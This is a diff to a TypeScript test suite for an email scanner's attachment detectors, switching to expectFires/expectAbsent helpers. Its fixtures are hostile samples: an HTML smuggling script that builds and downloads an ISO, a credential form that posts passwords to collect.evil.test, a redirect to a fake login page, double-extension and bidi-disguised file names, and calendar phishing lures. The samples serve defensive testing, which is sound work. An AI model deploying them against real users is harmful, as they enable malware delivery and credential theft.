@@ -11,7 +11,7 @@ import { analyzeEmail } from '../../src/email/index.js';
 import { resolveConfig } from '../../src/config/index.js';
 import { nameInfo, sniff, zipEntries } from '../../src/email/attachments.js';
 import { eml, type EmlAttachment, type EmlOptions } from '../helpers/eml.js';
-import { signal } from '../helpers/verdict.js';
+import { signal, expectAbsent, expectFires } from '../helpers/verdict.js';
 
 const config = resolveConfig({ organization: { name: 'Fabrikam', domains: ['fabrikam.example'] } });
 const scan = (o: EmlOptions) => analyzeEmail(eml(o), { config, scorer: null });
@@ -84,7 +84,7 @@ describe('email.attachment.dangerous_type', () => {
   const ID = 'email.attachment.dangerous_type';
   it.each(['setup.exe', 'run.js', 'update.vbs', 'shortcut.lnk', 'disk.iso', 'notes.one', 'tool.hta', 'script.ps1'])('fires on %s', async (filename) => {
     const v = await withFile({ filename, content: 'x' });
-    expect(signal(v, ID)).toMatchObject({ severity: 'high', category: 'malware_delivery', evidence: [{ where: `attachment:${filename}` }] });
+    expect(expectFires(v, ID)).toMatchObject({ severity: 'high', category: 'malware_delivery', evidence: [{ where: `attachment:${filename}` }] });
   });
   it('stays silent for a plain PDF and an .xlsx without macros', async () => {
     const v = await scan({
@@ -93,6 +93,7 @@ describe('email.attachment.dangerous_type', () => {
         { filename: 'budget.xlsx', contentType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', content: OOXML() },
       ],
     });
+    expectAbsent(v, ID);
     for (const s of v.signals) expect(s.id).not.toMatch(/^email\.attachment\./);
   });
 });
@@ -101,20 +102,20 @@ describe('email.attachment.double_extension', () => {
   const ID = 'email.attachment.double_extension';
   it('is critical for invoice.pdf.exe', async () => {
     const v = await withFile({ filename: 'invoice.pdf.exe', content: MZ });
-    expect(signal(v, ID)).toMatchObject({ severity: 'critical', evidence: [{ where: 'attachment:invoice.pdf.exe' }] });
+    expect(expectFires(v, ID)).toMatchObject({ severity: 'critical', evidence: [{ where: 'attachment:invoice.pdf.exe' }] });
   });
   it('is critical for a bidi override that shows .pdf', async () => {
     const v = await withFile({ filename: 'Invoice_\u202Efdp.scr', content: MZ });
-    expect(signal(v, ID)?.severity).toBe('critical');
-    expect(signal(v, ID)!.message).toContain('shown as');
+    expect(expectFires(v, ID).severity).toBe('critical');
+    expect(expectFires(v, ID).message).toContain('shown as');
   });
   it('is high for statement.pdf.html', async () => {
     const v = await withFile({ filename: 'statement.pdf.html', contentType: 'text/html', content: '<p>hello</p>' });
-    expect(signal(v, ID)?.severity).toBe('high');
+    expect(expectFires(v, ID).severity).toBe('high');
   });
   it('stays silent for archive.tar.gz and report.2024.pdf', async () => {
     const v = await scan({ attachments: [{ filename: 'archive.tar.gz', content: 'x' }, { filename: 'report.2024.pdf', content: PDF }] });
-    expect(signal(v, ID)).toBeUndefined();
+    expectAbsent(v, ID);
   });
 });
 
@@ -122,16 +123,16 @@ describe('email.attachment.type_mismatch', () => {
   const ID = 'email.attachment.type_mismatch';
   it('is critical for a "pdf" that is an MZ executable', async () => {
     const v = await withFile({ filename: 'scan.pdf', contentType: 'application/pdf', content: MZ });
-    expect(signal(v, ID)).toMatchObject({ severity: 'critical', evidence: [{ where: 'attachment:scan.pdf' }] });
+    expect(expectFires(v, ID)).toMatchObject({ severity: 'critical', evidence: [{ where: 'attachment:scan.pdf' }] });
   });
   it('is high for a "pdf" that is HTML', async () => {
     const v = await withFile({ filename: 'scan.pdf', contentType: 'application/pdf', content: '<!DOCTYPE html><html><body>x</body></html>' });
-    expect(signal(v, ID)?.severity).toBe('high');
+    expect(expectFires(v, ID).severity).toBe('high');
   });
   it('stays silent for a real PDF and a real PNG', async () => {
     const png = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0]);
     const v = await scan({ attachments: [{ filename: 'a.pdf', content: PDF }, { filename: 'logo.png', contentType: 'image/png', content: png }] });
-    expect(signal(v, ID)).toBeUndefined();
+    expectAbsent(v, ID);
   });
 });
 
@@ -140,18 +141,18 @@ describe('email.attachment.html_smuggling', () => {
   it('fires on atob + Blob + download', async () => {
     const html = `<html><body><script>var b=atob("${'QUJD'.repeat(10)}");var blob=new Blob([b]);var a=document.createElement('a');a.href=URL.createObjectURL(blob);a.download="invoice.iso";a.click();</script></body></html>`;
     const v = await withFile({ filename: 'invoice.html', contentType: 'text/html', content: html });
-    const s = signal(v, ID);
+    const s = expectFires(v, ID);
     expect(s).toMatchObject({ severity: 'high', evidence: [{ where: 'attachment:invoice.html' }] });
     expect(s!.message).toContain('atob');
   });
   it('fires on a script redirect', async () => {
     const v = await withFile({ filename: 'Remittance.htm', contentType: 'text/html', content: '<script>window.location.href="https://login.evil.test/?e=bob"</script>' });
-    expect(signal(v, ID)?.severity).toBe('high');
+    expect(expectFires(v, ID).severity).toBe('high');
   });
   it('stays silent for a saved receipt without scripts', async () => {
     const v = await withFile({ filename: 'receipt.html', contentType: 'text/html', content: '<html><body><h1>Receipt</h1><p>Total: 12.00</p></body></html>' });
-    expect(signal(v, ID)).toBeUndefined();
-    expect(signal(v, 'email.attachment.html_credential_form')).toBeUndefined();
+    expectAbsent(v, ID);
+    expectAbsent(v, 'email.attachment.html_credential_form');
   });
 });
 
@@ -160,7 +161,7 @@ describe('email.attachment.html_credential_form', () => {
   it('is critical with a password field', async () => {
     const html = '<html><body><form action="https://collect.evil.test/p" method="post"><input name="email"><input type="password" name="pw"><button>Sign in</button></form></body></html>';
     const v = await withFile({ filename: 'Secure_Message.html', contentType: 'text/html', content: html });
-    expect(signal(v, ID)).toMatchObject({ severity: 'critical', category: 'credential_harvest', evidence: [{ where: 'attachment:Secure_Message.html' }] });
+    expect(expectFires(v, ID)).toMatchObject({ severity: 'critical', category: 'credential_harvest', evidence: [{ where: 'attachment:Secure_Message.html' }] });
   });
 });
 
@@ -168,19 +169,19 @@ describe('email.attachment.macro_office', () => {
   const ID = 'email.attachment.macro_office';
   it('fires on an OOXML zip holding vbaProject.bin even when named .xlsx', async () => {
     const v = await withFile({ filename: 'budget.xlsx', content: OOXML(['xl/vbaProject.bin']) });
-    expect(signal(v, ID)).toMatchObject({ severity: 'high', evidence: [{ where: 'attachment:budget.xlsx' }] });
+    expect(expectFires(v, ID)).toMatchObject({ severity: 'high', evidence: [{ where: 'attachment:budget.xlsx' }] });
   });
   it('fires on an OLE .doc with a VBA project', async () => {
     const v = await withFile({ filename: 'order.doc', contentType: 'application/msword', content: ole('Root Entry', 'Macros', 'VBA', '_VBA_PROJECT') });
-    expect(signal(v, ID)?.severity).toBe('high');
+    expect(expectFires(v, ID).severity).toBe('high');
   });
   it('is medium on a .docm name alone', async () => {
     const v = await withFile({ filename: 'form.docm', content: 'x' });
-    expect(signal(v, ID)?.severity).toBe('medium');
+    expect(expectFires(v, ID).severity).toBe('medium');
   });
   it('stays silent for an OLE .doc without VBA', async () => {
     const v = await withFile({ filename: 'old.doc', content: ole('Root Entry', 'WordDocument', 'SummaryInformation') });
-    expect(signal(v, ID)).toBeUndefined();
+    expectAbsent(v, ID);
   });
 });
 
@@ -188,22 +189,22 @@ describe('email.attachment.encrypted_archive', () => {
   const ID = 'email.attachment.encrypted_archive';
   it('fires on an encrypted zip, high with the password in the body, and records a skip', async () => {
     const v = await withFile({ filename: 'statement.zip', contentType: 'application/zip', content: zip([{ name: 'statement.pdf', encrypted: true }]) }, { text: 'The archive password is: 4471' });
-    expect(signal(v, ID)).toMatchObject({ severity: 'high', evidence: [{ where: 'attachment:statement.zip' }] });
+    expect(expectFires(v, ID)).toMatchObject({ severity: 'high', evidence: [{ where: 'attachment:statement.zip' }] });
     expect(v.skipped.some((s) => s.what.includes('statement.zip') && /encrypted/.test(s.why))).toBe(true);
   });
   it('fires on a RAR5 archive with encrypted headers', async () => {
     const rar5 = new Uint8Array([0x52, 0x61, 0x72, 0x21, 0x1a, 0x07, 0x01, 0x00, 1, 2, 3, 4, 0x0c, 0x04, 0, 0]);
     const v = await withFile({ filename: 'docs.rar', content: rar5 });
-    expect(signal(v, ID)?.severity).toBe('medium');
+    expect(expectFires(v, ID).severity).toBe('medium');
   });
   it('fires on a password-protected Office document', async () => {
     const v = await withFile({ filename: 'salary.xlsx', content: ole('EncryptedInfo', 'EncryptedPackage') });
-    expect(signal(v, ID)).toBeDefined();
+    expectFires(v, ID);
   });
   it('stays silent for an ordinary zip', async () => {
     const v = await withFile({ filename: 'photos.zip', content: zip([{ name: 'a.jpg' }, { name: 'b.jpg' }]) });
-    expect(signal(v, ID)).toBeUndefined();
-    expect(signal(v, 'email.attachment.archive_executable')).toBeUndefined();
+    expectAbsent(v, ID);
+    expectAbsent(v, 'email.attachment.archive_executable');
   });
 });
 
@@ -211,13 +212,13 @@ describe('email.attachment.archive_executable', () => {
   const ID = 'email.attachment.archive_executable';
   it('is high for a zip holding a script', async () => {
     const v = await withFile({ filename: 'docs.zip', content: zip([{ name: 'readme.txt' }, { name: 'Invoice_0042.js' }]) });
-    const s = signal(v, ID);
+    const s = expectFires(v, ID);
     expect(s).toMatchObject({ severity: 'high', evidence: [{ where: 'attachment:docs.zip' }] });
     expect(s!.message).toContain('Invoice_0042.js');
   });
   it('is critical for a zip holding invoice.pdf.exe', async () => {
     const v = await withFile({ filename: 'docs.zip', content: zip([{ name: 'invoice.pdf.exe' }]) });
-    expect(signal(v, ID)?.severity).toBe('critical');
+    expect(expectFires(v, ID).severity).toBe('critical');
   });
 });
 
@@ -230,16 +231,16 @@ describe('email.attachment.calendar_lure', () => {
     ].join('\r\n');
   it('fires high on an invite with a verify link', async () => {
     const v = await withFile({ filename: 'invite.ics', contentType: 'text/calendar', content: ics('Your mailbox password expires today. Verify here: https://m365-verify.test/login') });
-    expect(signal(v, ID)).toMatchObject({ severity: 'high', category: 'phishing', evidence: [{ where: 'attachment:invite.ics' }] });
+    expect(expectFires(v, ID)).toMatchObject({ severity: 'high', category: 'phishing', evidence: [{ where: 'attachment:invite.ics' }] });
   });
   it('fires on a callback number next to a refund', async () => {
     const v = await withFile({ filename: 'invite.ics', contentType: 'text/calendar', content: ics('Your subscription renewal of $499 was charged. For a refund call +1 808 555 0142.') });
-    expect(signal(v, ID)?.message).toContain('callback number');
+    expect(expectFires(v, ID).message).toContain('callback number');
   });
   it('stays silent for a real Teams invite with a dial-in number', async () => {
     const desc = 'Join the meeting now: https://teams.microsoft.com/l/meetup-join/19%3ameeting_abc\\nDial in by phone +1 323-555-0100,,12345# United States';
     const v = await withFile({ filename: 'invite.ics', contentType: 'text/calendar', content: ics(desc, 'https://zoom.us/j/123456') });
-    expect(signal(v, ID)).toBeUndefined();
+    expectAbsent(v, ID);
   });
 });
 
@@ -257,7 +258,17 @@ describe('hostile archives', () => {
         { filename: 'z.html', contentType: 'text/html', content: html },
       ],
     });
-    expect(v.verdict).toBeDefined();
+    // a central directory that claims 65,535 entries yields the one real entry; 2 MB of local-header
+    // signatures yields at most the entry cap (2,000), not 500,000 entries
+    expect(zipEntries(lying).map((e) => e.name)).toEqual(['a.exe']);
+    expect(zipEntries(sigs).length).toBeLessThanOrEqual(2000);
+    // the checks still see the executable inside the lying archive (called directly: the scan's
+    // time budget may legitimately stop a loaded machine before the attachment stage)
+    const facts = await extractFacts(eml({ attachments: [{ filename: 'x.zip', content: lying }, { filename: 'z.html', contentType: 'text/html', content: html }] }), 't', new Budget(DEFAULT_LIMITS));
+    const out = attachmentSignals(facts, { config, budget: new Budget(DEFAULT_LIMITS) });
+    expect(expectFires(out, 'email.attachment.archive_executable').evidence[0]).toMatchObject({ where: 'attachment:x.zip' });
+    // the scan returned a verdict; whatever it did not reach, it says so
+    if (!signal(v, 'email.attachment.archive_executable')) expect(v.skipped.map((x) => x.why)).toContainEqual(expect.stringMatching(/^limit /));
   });
 });
 
@@ -271,7 +282,12 @@ describe('properties', () => {
         const content = new Uint8Array([...head, ...body]);
         const a = { filename, mimeType: 'application/octet-stream', disposition: 'attachment', size: content.length, content };
         const out = attachmentSignals({ ...facts, attachments: [a] }, { config, budget: new Budget(DEFAULT_LIMITS) });
-        return Array.isArray(out);
+        // only attachment signals, one per id (merged), each with the attachment as evidence
+        expect(new Set(out.map((s) => s.id)).size).toBe(out.length);
+        for (const s of out) {
+          expect(s.id).toMatch(/^email\.attachment\./);
+          expect(s.evidence.length).toBeGreaterThan(0);
+        }
       }),
       { seed: 20261129, numRuns: 2000 },
     );
